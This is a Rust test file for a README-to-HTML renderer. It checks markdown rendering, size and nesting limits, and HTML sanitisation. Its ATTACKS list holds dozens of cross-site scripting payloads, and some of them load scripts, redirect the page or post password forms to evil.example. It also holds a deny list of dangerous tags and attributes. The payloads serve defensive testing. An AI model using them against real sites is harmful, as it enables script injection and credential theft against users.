//! Readmes as people write them, and as attackers do.

use proptest::prelude::*;

use super::*;

fn origin() -> Origin {
    Origin {
        repository: Some("https://github.com/acme/demo".to_owned()),
        commit: Some("0af1".to_owned()),
        folder: "crates/demo".to_owned(),
    }
}

fn html_with(text: &str, images: Images) -> String {
    let origin = origin();
    render(&Readme { text, path: "README.md", origin: &origin }, images, &Limits::default()).html
}

fn html(text: &str) -> String {
    html_with(text, Images::Direct)
}

#[test]
fn the_markdown_of_github_is_rendered() {
    insta::assert_snapshot!(html(
        "# Demo & more\n\n> [!WARNING]\n> Hot.\n\nSee [usage](#demo--more), [docs](docs/x.md) and https://example.org.\n\n\
         - [x] done\n- [ ] open\n\n| a | b |\n|:-:|---|\n| 1 | ~~2~~ |\n\nNote[^1].\n\n[^1]: The note.\n\n\
         ```rust,no_run\nlet x = 1;\n```\n\n![logo](logo.svg)\n\n<p align=\"center\"><b>raw</b></p>\n"
    ));
}

#[test]
fn images_can_be_off() {
    let text = "[![build](https://ci.example/b.svg)](https://ci.example) ![alone](x.png) <img src=\"https://x.example/y\">";
    let off = html_with(text, Images::Off);
    assert!(off.contains(">build</a>") && off.contains("alone") && !off.contains("img"), "{off}");
    let on = html(text);
    assert!(on.contains("https://github.com/acme/demo/raw/0af1/crates/demo/x.png"), "{on}");
}

#[test]
fn what_is_no_markdown_is_shown_as_it_is() {
    let origin = Origin::default();
    for path in ["README.txt", "README.rst", "a.md/README.adoc"] {
        let shown =
            render(&Readme { text: "# <x>\n", path, origin: &origin }, Images::Direct, &Limits::default());
        assert_eq!(shown.html, "<pre class=\"readme-plain\"># &lt;x&gt;\n</pre>\n");
    }
    for path in ["README", "docs/README.MD", "x.mkd"] {
        assert!(is_markdown(path), "{path}");
    }
}

#[test]
fn what_costs_too_much_is_shown_as_text_with_the_reason() {
    let limits = Limits { input_bytes_max: 1 << 20, output_bytes_max: 4_000 };
    let origin = Origin::default();
    let shown =
        |text: &str| render(&Readme { text, path: "README.md", origin: &origin }, Images::Direct, &limits);
    let cases = [
        ("x ".repeat(600_000), "longer than 1048576 bytes"),
        ("`x` ".repeat(1_000), "its HTML would be longer than 4000 bytes"),
        ("> ".repeat(1_000), "nested too deeply"),
        ("<div>".repeat(500), "nested too deeply"),
    ];
    for (text, why) in cases {
        let shown = shown(&text);
        assert!(shown.fallback.is_some_and(|fallback| fallback.to_string().contains(why)), "{why}");
        assert!(shown.html.starts_with("<p class=\"readme-note\">") && shown.html.len() <= 4_100, "{why}");
    }
}

#[test]
fn nesting_of_any_kind_ends_in_a_bounded_time() {
    let many = 100_000;
    for sign in [
        "> ",
        "- ",
        "* ",
        "[",
        "![",
        "**",
        "_a ",
        "`",
        "<b>",
        "<a href=x>",
        "<table><td>",
        "<svg><math>",
        "[^1]",
        "|",
        "~~",
        "1. ",
    ] {
        let text = sign.repeat(many / sign.len());
        assert!(html(&text).len() <= 4 << 20, "{sign}");
        assert!(html(&format!("{text}\n\n{}", "]".repeat(1_000))).len() <= 4 << 20, "{sign}");
    }
}

#[test]
fn words_for_searching_have_no_marks() {
    let text = "# Title\n\nA **bold** [link](https://example.org/secret) `code`.\n\n<script>evil()</script>\n\n```rust\nfn f() {}\n```\n";
    let limits = Limits::default();
    assert_eq!(plain_words(text, "README.md", &limits, 1_000), "Title A bold link code. fn f() {}");
    assert_eq!(plain_words(text, "README.md", &limits, 13), "Title A bold");
    assert_eq!(plain_words("a  b\n", "README.txt", &limits, 9), "a b");
}

/// What has hurt others: scripts in every place where a script, a style or an address can stand.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>y</text></a></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"data:text/html,x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=password type=password><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<div id=\"main\" class=\"site-header\">x</div>",
    "<h1 id=\"login\">x</h1><a name=\"login\">y</a>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```rust\"onmouseover=\"alert(1)\nx\n```",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| `<script>` |",
    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<a href=https://ok.example target=_top onclick=alert(1) ping=https://evil.example>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<frameset onload=alert(1)>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</td></table>",
    "<plaintext><script>alert(1)</script>",
];

/// The attributes of a tag as they are printed: each with its value in quotes.
fn attributes(tag: &str) -> Vec<(&str, &str)> {
    let (mut found, mut rest) = (Vec::new(), tag);
    while let Some((before, after)) = rest.split_once("=\"") {
        let (value, more) = after.split_once('"').expect("a quote is closed");
        found.push((before.rsplit(' ').next().unwrap_or_default(), value));
        rest = more;
    }
    found
}

/// Looks at the tags that are really there, not at texts that look like them.
fn assert_clean(html: &str, from: &str) {
    let tags = html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default());
    for tag in tags {
        let name = tag.trim_start_matches('/').split([' ', '/']).next().unwrap_or_default();
        let bad = [
            "script", "style", "iframe", "object", "embed", "link", "meta", "base", "form", "button", "svg",
            "math", "video", "audio", "template", "textarea", "title", "body", "noscript",
        ];
        assert!(!bad.contains(&name), "<{tag}> from {from}");
        for (key, value) in attributes(tag) {
            let is_text = matches!(key, "title" | "alt");
            assert!(is_text || !key.starts_with("on"), "<{tag}> from {from}");
            assert!(
                !matches!(key, "style" | "target" | "ping" | "srcdoc" | "formaction" | "name"),
                "<{tag}> from {from}"
            );
            let is_address = matches!(key, "href" | "src" | "srcset" | "cite");
            let starts = ["https://", "http://", "#", "mailto:"];
            assert!(
                !is_address || starts.iter().any(|start| value.starts_with(start)),
                "<{tag}> from {from}"
            );
            assert!(key != "id" || value.starts_with("user-content-"), "<{tag}> from {from}");
        }
    }
}

#[test]
fn no_attack_comes_through() {
    for attack in ATTACKS {
        for text in [attack.to_string(), format!("a *b* {attack} c"), format!("<div>\n\n{attack}\n\n</div>")]
        {
            assert_clean(&html(&text), &text);
            assert_clean(&html_with(&text, Images::Off), &text);
        }
    }
}

#[test]
fn links_say_whose_they_are() {
    let shown = html("<a href=\"https://example.org\" rel=\"me\">x</a> <input type=\"password\" name=\"p\">");
    assert!(shown.contains("rel=\"nofollow noopener ugc\"") && !shown.contains("rel=\"me\""), "{shown}");
    assert!(shown.contains("type=\"checkbox\"") && shown.contains("disabled"), "{shown}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn no_text_is_too_much(text in any::<String>(), path in "[a-zA-Z./]{0,12}") {
        let origin = Origin { repository: Some(text.clone()), commit: None, folder: text.clone() };
        let shown = render(&Readme { text: &text, path: &path, origin: &origin }, Images::Direct, &Limits::default());
        assert_clean(&shown.html, &text);
    }

    #[test]
    fn no_mix_of_attacks_comes_through(picks in proptest::collection::vec((0..ATTACKS.len(), "[ \n>*`<\"'|#-]{0,6}"), 1..8)) {
        let text: String = picks.iter().map(|(at, glue)| format!("{}{glue}", ATTACKS[*at])).collect();
        assert_clean(&html(&text), &text);
    }
}
